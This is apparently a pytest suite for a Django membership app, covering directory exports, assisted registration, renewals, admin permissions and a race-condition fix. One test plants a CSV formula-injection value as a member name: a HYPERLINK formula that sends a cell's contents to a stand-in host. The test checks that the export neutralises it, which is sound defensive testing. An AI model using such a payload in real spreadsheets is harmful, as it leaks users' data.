"""Behaviours added after review of the members work (each one was a defect)."""

import csv
import datetime
import io

import pytest
from allauth.account.models import EmailAddress
from django.contrib.auth.models import Permission
from django.core import mail
from django.db import IntegrityError, transaction
from django.utils import timezone

from home.demo_content import demo_pages_create
from members.demo_content import demo_groups_create
from members.factories import MemberFactory, UserFactory
from members.models import GroupMembership, MemberProfile
from members.services.assisted_registration import member_register_assisted
from members.services.memberships import (
    MembershipError,
    _add_months,
    membership_join,
    membership_renew,
    memberships_invite_renewals,
)

pytestmark = pytest.mark.django_db
TODAY = timezone.localdate()


@pytest.fixture
def groups(db):
    return {group.slug: group for group in demo_groups_create()}


def join(member, group):
    return membership_join(
        member=member, group=group, accepted_version=group.current_ground_rules()
    )


def test_directory_csv_keeps_formulas_as_text(client, staff, admin_login, groups):
    MemberFactory(email="evil@example.org", name='=HYPERLINK("http://x.invalid/?"&B2,"hi")')
    admin_login(staff)
    response = client.get("/admin/member-directory/", {"export": "csv"})
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
    names = [row[0] for row in rows[1:]]
    assert '\'=HYPERLINK("http://x.invalid/?"&B2,"hi")' in names


def test_directory_group_and_status_filters_describe_one_membership(
    client, staff, admin_login, groups
):
    person = MemberFactory(email="two@example.org", name="Two Groups")
    join(person, groups["living-with-diabetes"])  # active here
    join(person, groups["mental-health-lived-experience-panel"])  # applied there
    admin_login(staff)
    response = client.get(
        "/admin/member-directory/",
        {"group": groups["living-with-diabetes"].pk, "status": "applied"},
    )
    assert "Two Groups" not in response.content.decode()


def test_an_address_held_as_a_secondary_address_is_in_use(staff, groups):
    demo_pages_create()
    owner = MemberFactory(email="owner@example.org")
    EmailAddress.objects.create(user=owner, email="second@example.org", verified=True)
    with pytest.raises(MembershipError):
        member_register_assisted(
            by=staff,
            name="X",
            channel="phone",
            email="second@example.org",
            privacy_notice_explained=True,
        )


def test_staff_can_edit_a_member_who_has_no_email(client, staff, admin_login, groups):
    demo_pages_create()
    person = member_register_assisted(
        by=staff, name="No Email", channel="paper", phone="0", privacy_notice_explained=True
    )
    admin_login(staff)
    response = client.post(f"/admin/users/edit/{person.pk}/", {"name": "No Email Jr"})
    assert response.status_code == 302
    person.refresh_from_db()
    assert person.name == "No Email Jr"
    assert person.email is None


def test_members_without_email_are_not_counted_as_emailed(
    staff, groups, django_capture_on_commit_callbacks
):
    demo_pages_create()
    person = member_register_assisted(
        by=staff,
        name="Offline",
        channel="phone",
        phone="0",
        privacy_notice_explained=True,
        group=groups["living-with-diabetes"],
    )
    GroupMembership.objects.filter(member=person).update(
        term_ends_on=TODAY + datetime.timedelta(days=5)
    )
    mail.outbox.clear()
    with django_capture_on_commit_callbacks(execute=True):
        assert memberships_invite_renewals() == 0
        assert memberships_invite_renewals() == 0
    assert mail.outbox == []
    assert GroupMembership.objects.get(member=person).renewal_invited_at is not None


def test_paused_members_are_invited_to_renew_too(groups, django_capture_on_commit_callbacks):
    membership = join(MemberFactory(email="paused@example.org"), groups["living-with-diabetes"])
    GroupMembership.objects.filter(pk=membership.pk).update(
        status="paused",
        paused_until=TODAY + datetime.timedelta(days=60),
        term_ends_on=TODAY + datetime.timedelta(days=10),
    )
    with django_capture_on_commit_callbacks(execute=True):
        assert memberships_invite_renewals() == 1


def test_renewing_adds_one_term_to_the_end_and_only_once_the_window_opens(groups):
    membership = join(MemberFactory(email="r@example.org"), groups["living-with-diabetes"])
    with pytest.raises(MembershipError):
        membership_renew(membership=membership)  # two years to go: too early
    end = TODAY + datetime.timedelta(days=20)
    GroupMembership.objects.filter(pk=membership.pk).update(term_ends_on=end)
    renewed = membership_renew(membership=membership)
    assert renewed.term_ends_on == _add_months(end, 24)
    with pytest.raises(MembershipError):
        membership_renew(membership=renewed)  # a second click adds nothing


def test_add_months_keeps_to_the_end_of_short_months():
    assert _add_months(datetime.date(2027, 1, 31), 1) == datetime.date(2027, 2, 28)
    assert _add_months(datetime.date(2028, 1, 31), 1) == datetime.date(2028, 2, 29)
    assert _add_months(datetime.date(2026, 11, 26), 24) == datetime.date(2028, 11, 26)


def test_ground_rules_intro_links_are_real_links(client, groups):
    about = demo_pages_create()["about-our-reference-groups"]
    group = groups["living-with-diabetes"]
    group.ground_rules = [
        ("intro", f'<p>See <a linktype="page" id="{about.pk}">about us</a>.</p>'),
        ("rule", "Be kind."),
    ]
    group.save_revision().publish()
    html = client.get(group.url).content.decode()
    assert 'href="/about-our-reference-groups/"' in html
    assert 'linktype="page"' not in html


def test_email_subjects_are_not_html_escaped(
    client, member, groups, django_capture_on_commit_callbacks
):
    with django_capture_on_commit_callbacks(execute=True):
        join(member, groups["carers-voice"])
    assert mail.outbox[-1].subject == "Welcome to Carers' voice"


@pytest.mark.parametrize(
    "url",
    [
        "/admin/member-directory/",
        "/admin/membership-requests/",
        "/admin/assisted-registration/",
        "/admin/snippets/members/topic/",
    ],
)
def test_admin_users_without_the_specific_permission_are_refused(client, admin_login, url):
    # Past the admin's own door (access_admin and a second factor), each screen
    # still checks its own permission.
    editor = UserFactory(email="editor@example.org")
    editor.user_permissions.add(Permission.objects.get(codename="access_admin"))
    admin_login(editor)
    response = client.get(url)
    assert response.status_code in (302, 403)
    if response.status_code == 302:
        assert response["Location"] == "/admin/"


def test_profile_records_are_not_shared(groups):
    # A profile belongs to one user; a second one for the same person is refused.
    person = MemberFactory(email="p@example.org")
    MemberProfile.objects.create(user=person)
    with pytest.raises(IntegrityError), transaction.atomic():
        MemberProfile.objects.create(user=person)


def test_a_join_that_loses_a_race_gets_a_message_not_a_crash(member, monkeypatch):
    """On SQLite there are no row locks: two joins can both pass the 'already a member'
    check. The constraint stops the second; the person sees the plain message."""
    group = next(g for g in demo_groups_create() if g.slug == "living-with-diabetes")
    rules = group.current_ground_rules()
    membership_join(member=member, group=group, accepted_version=rules)
    # The second join's check ran before the first join committed: it saw nothing.
    monkeypatch.setattr(
        "members.models.groups.MembershipQuerySet.live",
        lambda self: self.none(),
    )
    with pytest.raises(MembershipError, match="already a member"):
        membership_join(member=member, group=group, accepted_version=rules)
    monkeypatch.undo()
    assert GroupMembership.objects.filter(member=member).count() == 1
